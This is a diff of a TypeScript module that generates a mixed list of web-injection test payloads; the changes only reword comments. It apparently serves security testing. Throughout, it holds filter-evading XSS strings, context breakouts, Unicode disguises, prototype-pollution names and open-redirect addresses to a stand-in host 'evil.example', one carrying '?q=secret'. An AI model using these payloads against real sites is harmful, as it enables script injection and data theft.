@@ -1,21 +1,21 @@
 /**
- * One string that harms wherever text is taken for something else. In `template`, `«id»` stands for the number by which what it
- * does is told: a script calls `__hit(«id»)` or opens a dialog, a request goes to `evil.example/«id»`.
+ * A string that does harm where text is interpreted as something else. `«id»` in `template` is replaced by a number that
+ * identifies the payload: a script calls `__hit(«id»)` or opens a dialog, a request goes to `evil.example/«id»`.
  */
 export interface Payload {
-  /** Kind and way, such as `markup/svg onload`. */
+  /** Kind and method, such as `markup/svg onload`. */
   readonly name: string;
   readonly template: string;
 }
 
-/** The string, with `id` (digits) in all that it does. */
+/** Fills `id` (digits) into the template. */
 export function writePayload({ template }: Payload, id: number): string {
   return template.replaceAll('«id»', String(id));
 }
 
 /**
- * Every carrier with the first of `fillings`, and with `each - 1` others that change from carrier to carrier, so that over all carriers
- * every filling is used. `slot` is what stands in a carrier for a filling.
+ * Combines every carrier with the first of `fillings` and with `each - 1` others, which differ from carrier to carrier, so that
+ * all fillings are used. `slot` is the placeholder for a filling in a carrier.
  */
 function combine(options: {
   readonly kind: string;
@@ -34,7 +34,7 @@ function combine(options: {
   );
 }
 
-/** Addresses that run something, in the spellings that lists of forbidden words miss. */
+/** Addresses that run scripts, in spellings that lists of forbidden words miss. */
 const RUNNING_ADDRESSES: readonly string[] = [
   'javascript:__hit(«id»)',
   'JaVaScRiPt:__hit(«id»)',
@@ -54,7 +54,7 @@ const RUNNING_ADDRESSES: readonly string[] = [
   'data:text/javascript,__hit(«id»)',
 ];
 
-/** Addresses of somebody else's host, in the spellings that checks of hosts misread. */
+/** Addresses of a foreign host, in spellings that host checks misread. */
 const FOREIGN_ADDRESSES: readonly string[] = [
   'https://evil.example/«id»',
   'http://evil.example/«id»?q=secret',
@@ -72,13 +72,13 @@ const FOREIGN_ADDRESSES: readonly string[] = [
   '?next=//evil.example/«id»',
 ];
 
-/** As they are, for places that take an address. */
+/** Addresses unchanged, for places that take an address. */
 export const ADDRESSES: readonly Payload[] = [...RUNNING_ADDRESSES, ...FOREIGN_ADDRESSES].map((template) => ({
   name: 'address',
   template,
 }));
 
-/** Elements and handlers that run what they are given. */
+/** Elements and handlers that run their content. */
 const RUNNERS: readonly string[] = [
   '<script>«run»</script>',
   '<ScRiPt\t>«run»</sCrIpT\n>',
@@ -143,7 +143,7 @@ const LEADERS: readonly string[] = [
   '<math href="«url»"><mi xlink:href="«url»">x</mi></math>',
 ];
 
-/** Ways of running and of reaching out, once a script may run. None holds a space, `"` or `>`, so that they fit into any attribute. */
+/** Scripts that run and that send requests. None contains a space, `"` or `>`, so that they fit into any attribute. */
 const SCRIPTS: readonly string[] = [
   '__hit(«id»)',
   "window['__'+'hit'](«id»)",
@@ -169,7 +169,7 @@ const MARKUP: readonly Payload[] = [
   ...combine({ kind: 'leader', carriers: LEADERS, slot: '«url»', fillings: RUNNING_ADDRESSES, each: 6 }),
 ];
 
-/** Ends of what a text may have been written into. */
+/** Strings that end the context into which a text may have been written. */
 const ENDS: readonly string[] = [
   '"></a>«core»',
   "'></a>«core»",
@@ -210,7 +210,7 @@ const BREAKOUTS: readonly Payload[] = ENDS.flatMap((end) =>
     : combine({ kind: 'breakout', carriers: [end], slot: '«core»', fillings: CORES, each: 6 }),
 );
 
-/** Names that mean something to objects, templates of frameworks, and what looks like an element of React. */
+/** Names with a meaning for objects, templates of frameworks, and text that looks like a React element. */
 const TEXTS: readonly string[] = [
   '__proto__',
   'constructor',
@@ -293,7 +293,7 @@ const tagged = (text: string): string =>
 const fullWidth = (text: string): string =>
   text.replaceAll(/[<>"'()[\]!=:/]/gu, (char) => String.fromCodePoint(char.codePointAt(0)! + 0xfe_e0));
 
-/** The same in characters that are not seen, turn around, look alike, or become others when they are normalised or cut. */
+/** Disguises with characters that are invisible, reverse the direction, look alike, or change when normalised or cut. */
 const DISGUISES: readonly (readonly [string, (text: string) => string])[] = [
   ['right to left', (text) => `\u202e${text}\u202c`],
   ['zero width', (text) => text.replaceAll(/(?<=<|java|!\[)/gu, '\u200b')],
@@ -312,7 +312,7 @@ const CHARACTERS: readonly Payload[] = DISGUISES.flatMap(([name, disguise]) =>
   PLAIN_CORES.map((core) => ({ name: `characters/${name}`, template: disguise(core) })),
 );
 
-/** As plain as they can be, so that nothing else that they do stops what is being tried. Text in front keeps them in sight. */
+/** Simplest possible payloads, so that no side effect hides the one to be tried. The text in front keeps them visible. */
 export const PLAIN: readonly Payload[] = [
   '«id» <img src=x onerror=__hit(«id»)>',
   '«id» <img src=//evil.example/«id»>',
@@ -325,11 +325,11 @@ export const PLAIN: readonly Payload[] = [
   '«id» <script>__hit(«id»)</script>',
 ].map((template) => ({ name: 'plain', template }));
 
-/** All of them, each once, kinds mixed, so that any part of the list holds of every kind. The order never changes. */
+/** All payloads, each once, with the kinds mixed, so that any part of the list has some of every kind. The order never changes. */
 export function payloads(): readonly Payload[] {
   const all = [...ADDRESSES, ...MARKUP, ...BREAKOUTS, ...MARKDOWN, ...STYLES, ...CHARACTERS, ...OBJECTS];
   const once = [...new Map(all.map((payload) => [payload.template, payload])).values()];
-  // Steps of the golden section come everywhere soonest, and to each once when they share no factor with the length.
+  // Golden section steps spread evenly from the start; they reach each index once if they share no factor with the length.
   let step = Math.round(once.length * 0.618);
   while (commonFactor(step, once.length) > 1) step += 1;
   return once.map((_, at) => once[(at * step) % once.length]!);
